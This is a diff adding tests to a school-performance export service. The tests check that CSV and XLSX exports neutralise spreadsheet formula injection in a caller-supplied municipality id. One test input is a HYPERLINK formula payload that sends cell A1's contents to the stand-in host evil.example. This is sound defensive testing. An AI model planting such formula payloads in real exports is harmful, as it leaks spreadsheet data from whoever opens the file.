@@ -1,4 +1,5 @@
 import { randomUUID } from "node:crypto";
+import { Readable } from "node:stream";
 import { rebuildProjection } from "@otmetka/projections";
 import {
   AsOfMode,
@@ -307,6 +308,80 @@ describe("statutory export", () => {
           md,
         ),
       ).rejects.toMatchObject({ code: 7 });
+    } finally {
+      await api.close();
+    }
+  });
+});
+
+describe("statutory export of caller-controlled text (CSV injection)", () => {
+  // A ministry officer may name any municipality: the scope id lands in a text cell as given.
+  const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"];
+  const exportAs = async (
+    api: Awaited<ReturnType<typeof startApi>>,
+    scopeId: string,
+    format: ExportFormat,
+  ) =>
+    api.client.exportPerformanceReport(
+      {
+        level: Level.LEVEL_MUNICIPALITY,
+        scopeId,
+        academicYear: { startYear: 2026 },
+        year: true,
+        asOf: D,
+        asOfMode: AsOfMode.AS_OF_MODE_UNSPECIFIED,
+        definitionVersion: 0,
+        format,
+        basis: ResultBasis.RESULT_BASIS_UNSPECIFIED,
+      },
+      await api.as(["MINISTRY_OFFICER@region:74"], "ministry"),
+    );
+  /** The second cell of the row whose first cell is the label, as the same library reads it back. */
+  const secondCell = (ws: ExcelJS.Worksheet, label: string) => {
+    for (let r = 1; r <= ws.rowCount; r++) {
+      const row = ws.getRow(r);
+      if (row.getCell(1).value === label) return row.getCell(2);
+    }
+    throw new Error(`no row ${label}`);
+  };
+
+  it("a CSV text cell that would start a formula gets a leading apostrophe; figures stay numbers", async () => {
+    const api = await startApi(h.db, config);
+    try {
+      for (const start of FORMULA_STARTS) {
+        const scopeId = `${start}HYPERLINK("http://evil.example/?"&A1,"x")`;
+        const r = await exportAs(api, scopeId, ExportFormat.EXPORT_FORMAT_CSV);
+        const content = Buffer.from(r.content);
+        expect([...content.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+        const wb = new ExcelJS.Workbook();
+        const ws = await wb.csv.read(Readable.from([content.subarray(3)]), {
+          map: (v: unknown) => v,
+        });
+        expect(secondCell(ws, "Муниципалитет").value).toBe(`'${scopeId}`);
+        // The total row's pupil count is a figure: written as a number, no apostrophe.
+        expect(secondCell(ws, "Итого").value).toBe("0");
+      }
+    } finally {
+      await api.close();
+    }
+  });
+
+  it("the XLSX writes such text as a string cell, never a formula", async () => {
+    const api = await startApi(h.db, config);
+    try {
+      for (const start of FORMULA_STARTS) {
+        const scopeId = `${start}1+2`;
+        const r = await exportAs(api, scopeId, ExportFormat.EXPORT_FORMAT_XLSX);
+        const wb = new ExcelJS.Workbook();
+        await wb.xlsx.load(Buffer.from(r.content) as unknown as ExcelJS.Buffer);
+        const ws = wb.worksheets[0];
+        if (!ws) throw new Error("no worksheet");
+        const cell = secondCell(ws, "Муниципалитет");
+        expect(cell.type).toBe(ExcelJS.ValueType.String);
+        expect(cell.formula).toBeUndefined();
+        // XML reads a carriage return in text back as a line feed (exceljs writes it raw).
+        expect(cell.value).toBe(scopeId.replace("\r", "\n"));
+      }
     } finally {
       await api.close();
     }
